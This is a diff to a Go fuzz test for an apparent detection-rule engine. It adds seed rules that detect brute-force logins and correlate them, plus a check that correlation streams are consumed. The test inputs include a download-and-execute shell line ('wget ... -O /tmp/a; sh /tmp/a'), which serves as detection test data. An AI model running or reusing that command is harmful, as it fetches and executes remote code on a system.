@@ -2,12 +2,15 @@ package tagger_test
 
 import (
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"testing/fstest"
 	"time"
 
+	"github.com/ttpcron/ttpcron"
 	"github.com/ttpcron/ttpcron/tagger"
+	"github.com/ttpcron/ttpcron/tagger/correlation"
 )
 
 // rule is a valid rule with a condition; from and to replace a part of it.
@@ -205,14 +208,19 @@ func FuzzLoad(f *testing.F) {
 	f.Add([]byte(rule("A", "{kind: lifter:canary_automation_hash, catalogues: [x]}", "[command]", "[canary_fingerprint]")))
 	f.Add([]byte(bomb()))
 	f.Add([]byte("title: x\nid: y\nlogsource: {product: linux}\ndetection: {a: {Image|endswith: /x}, condition: a}\ndate: 2026-01-01\n"))
+	f.Add([]byte("---\n" + failedLogin("BASE") + "---\n" + guessing("GUESS") + "tests: {match: [[{times: 3, every: 1s, kind: auth_attempt, payload: {username: 'u{n}', success: false}}]]}\n"))
+	f.Add([]byte(failedLogin("A") + "---\n" + guessing("B", "[BASE]", "[A, C]", "event_count", "temporal_ordered", "{gte: 3}", "'A and (C or A)'") + "---\n" + guessing("C", "[BASE]", "[A]", "timespan", "aliases: {who: {A: username}}\n  timespan", "username]", "who]")))
+	f.Add([]byte("title: x\nname: a\nlogsource: {category: auth}\ndetection: {a: {outcome: failure}, condition: a}\n---\ntitle: y\ntags: [attack.t1110, attack.credential-access]\n" +
+		"correlation: {type: value_count, rules: [a], group-by: [src_ip], timespan: 1h, condition: {gt: 1, field: [User, password]}, generate: true}\n"))
+	f.Add([]byte(lifted("{kind: 'lifter:login_after_failures', threshold: 2, window: 60}", "")))
 	f.Fuzz(func(t *testing.T, data []byte) {
-		rs, report := load("a.yaml", string(data))
+		rs, report := load("a.yaml", string(data), "base.yaml", failedLogin("OTHER"))
 		for _, p := range report.Problems {
 			if s := p.String(); strings.ContainsAny(s, "\n\r") {
 				t.Fatalf("%q is not one line", s)
 			}
 		}
-		if rs.Len() == 0 && report.Refused() == 0 {
+		if rs.Len() <= 1 && report.Refused() == 0 {
 			t.Fatal("neither a rule nor a problem")
 		}
 		inForce := map[string]bool{}
@@ -227,6 +235,29 @@ func FuzzLoad(f *testing.F) {
 		c := rs.Tagger(nil)
 		for _, text := range []string{"", "a b", "wget http://x/a -O /tmp/a; sh /tmp/a &", string(data)} {
 			c.Tag(command(text), nil)
+		}
+		judges := map[string]*correlation.Judge{}
+		for _, r := range rs.Correlations() {
+			judges[r.Def().ID] = r.Judge()
+		}
+		c.Tag(login("203.0.113.9", "root", false), nil)
+		for _, m := range c.Matches() {
+			used := false
+			for _, r := range rs.Correlations() {
+				j := judges[r.Def().ID]
+				if i := slices.Index(r.Streams(), m.Stream); i >= 0 {
+					used = true
+					j.Begin(ttpcron.Group(m.Group))
+					j.Match(i, &m)
+					slots, _ := j.End(nil)
+					for _, slot := range slots {
+						r.Tags(ttpcron.Group(m.Group), slot, nil)
+					}
+				}
+			}
+			if !used {
+				t.Fatalf("nobody looks at the stream %s", m.Stream.ID)
+			}
 		}
 		tagger.Test(rs)
 	})
